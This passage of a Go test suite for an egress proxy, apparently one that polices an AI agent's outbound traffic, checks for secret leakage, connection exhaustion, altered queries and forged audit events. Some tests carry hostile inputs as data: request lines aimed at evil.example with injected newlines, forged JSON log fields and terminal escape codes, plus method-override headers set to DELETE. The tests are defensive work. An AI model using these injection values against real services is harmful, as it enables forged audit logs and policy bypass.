			if response, err := client.Do(request(t, "POST", target, body)); err == nil {
				_, _ = io.Copy(io.Discard, response.Body)
				_ = response.Body.Close()
			}
		}
	}
	for _, said := range []string{"CONNECT " + otherReal + ":443 HTTP/1.1\r\nHost: x\r\n\r\n", "GET " + realKey + "\r\n\r\n", "GET /.bot-bottle/v1/lookup?name=" + realKey + " HTTP/1.1\r\nHost: egress.bot-bottle\r\n\r\n"} {
		_, _ = say(t, l.dial(t), said)
	}
	l.awaitEvent(t, "the last", func(e audit.Event) bool { return e.Kind == audit.Lookup })
	for _, where := range []string{l.events.String(), l.log.String()} {
		for _, value := range []string{realKey, otherReal, placeholder, hex.EncodeToString([]byte(realKey))} {
			if i := strings.Index(where, value); i >= 0 {
				t.Errorf("found in %q", where[max(0, i-200):i+len(value)])
			}
		}
	}
}

// Attack H3: a request line that forges a line of the audit log.
func TestAttackH3_NoForgedEvents(t *testing.T) {
	l := newLab(t)
	_, _ = say(t, l.dial(t), "GET http://evil.example/%0A{%22event%22:%22request%22}\u009b31m HTTP/1.1\r\nHost: x\r\n\r\n")
	_, _ = say(t, l.dial(t), "GET /.bot-bottle/v1/lookup?name=%0A%7B%22decision%22:%22allow%22%7D%1b]0;x%07 HTTP/1.1\r\nHost: egress.bot-bottle\r\n\r\n")
	l.awaitEvent(t, "the question", func(e audit.Event) bool { return e.Kind == audit.Lookup })
	for _, e := range l.eventsOf(t) { // each line is an event, and each a refusal
		if e.Decision != audit.Deny || e.Bottle != "dev-abcdef" {
			t.Errorf("got %+v", e)
		}
	}
	if strings.ContainsAny(l.events.String(), "\x1b\x07\u009b") {
		t.Errorf("control characters in %q", l.events.String())
	}
}

// Attack J4: connections that never say anything use the proxy up; they end.
func TestAttackJ4_ConnectionsAreLimited(t *testing.T) {
	inner, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ln := limit(inner, 1)
	accepted := make(chan net.Conn)
	go func() {
		defer close(accepted)
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			accepted <- conn
		}
	}()
	for range 2 {
		conn, err := net.Dial("tcp", inner.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = conn.Close() }()
	}
	first := <-accepted
	select {
	case <-accepted:
		t.Error("a second connection beside the first")
	case ln.slots <- struct{}{}:
		t.Error("a free slot")
	default:
	}
	_ = first.Close()
	_ = first.Close() // twice frees once
	second := <-accepted
	_ = ln.Close()
	if _, more := <-accepted; more {
		t.Error("accepts after its end")
	}
	_ = second.Close()
}

// Attack B5: what arrives is not what was decided on: a query that is written anew on the
// way, a header that names another method.
func TestAttackB5_WhatWasDecidedIsWhatIsSent(t *testing.T) {
	var got string
	up := newOrigin(t, func(_ http.ResponseWriter, r *http.Request) { got = r.RequestURI })
	l := newLab(t, up.route("api.example", nil))
	for _, h2 := range []bool{false, true} {
		for _, target := range []string{"/?a=1;b=2", "/?a=%zz&b=1", "/?&&a=1&&", "/?a", "/?a=+%20", "/@scope%2fname?x=%2F%2e", "/%7Euser", "/a?b?c=/../"} {
			r := request(t, "GET", "https://api.example"+target, nil)
			got = ""
			if response, body := get(t, l.client(t, h2), r); response.StatusCode != 200 || got != target {
				t.Errorf("%s: got %d %s, %q arrived", target, response.StatusCode, body, got)
			}
		}
		for _, name := range []string{"X-HTTP-Method-Override", "x-http-method", "X-Method-Override"} {
			r := request(t, "GET", "https://api.example/", nil)
			r.Header.Set(name, "DELETE")
			if response, _ := get(t, l.client(t, h2), r); response.StatusCode != 403 {
				t.Errorf("%s: got %d", name, response.StatusCode)
			}
		}
	}
}
